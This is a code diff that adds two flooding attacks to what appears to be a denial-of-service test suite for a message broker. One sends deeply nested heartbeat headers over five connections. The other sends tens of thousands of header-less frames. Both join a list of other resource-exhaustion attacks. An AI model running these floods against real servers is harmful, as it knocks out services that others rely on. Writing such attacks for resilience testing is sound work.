@@ -274,6 +274,27 @@ def reconnecting(target: Target) -> Iterator[None]:
         yield
 
 
+def tolerant_headers(target: Target) -> Iterator[None]:
+    """One-way requests on five connections, with headers that only Python decodes, as slowly as possible."""
+    nested = b"{code:%d,flag:2,extFields:{a:%s1%s}}" % (RequestCode.HEART_BEAT, b"[" * 60 + b"1," * 1900, b"]" * 60)
+    flood = (pack(">II", 4 + len(nested), len(nested)) + nested) * 64
+    sockets = [connect(target.broker) for _ in range(5)]
+    while True:
+        yield
+        for sock in sockets:
+            sock.sendall(flood)
+
+
+def unreadable_frames(target: Target) -> Iterator[None]:
+    """Frames without a header, as many as one read of the server has."""
+    flood = pack(">II", 4, 0) * 32_768
+    while True:
+        yield
+        with suppress(OSError), connect(target.broker) as sock:
+            sock.sendall(flood)
+            receive(sock, 1)
+
+
 ATTACKS = (
     Attack("held_pulls", "30,000 held pulls that never match", held_pulls),
     Attack("rejected_pulls", "pulls that match nothing, on five connections", rejected_pulls),
@@ -284,6 +305,8 @@ ATTACKS = (
     Attack("idle_connections", "10,000 idle connections", idle_connections),
     Attack("slow_headers", "2,000 frames, byte by byte", slow_headers),
     Attack("reconnecting", "connections opened and closed", reconnecting),
+    Attack("tolerant_headers", "headers that only Python decodes, on five connections", tolerant_headers),
+    Attack("unreadable_frames", "reads full of frames without a header", unreadable_frames),
 )
 
 
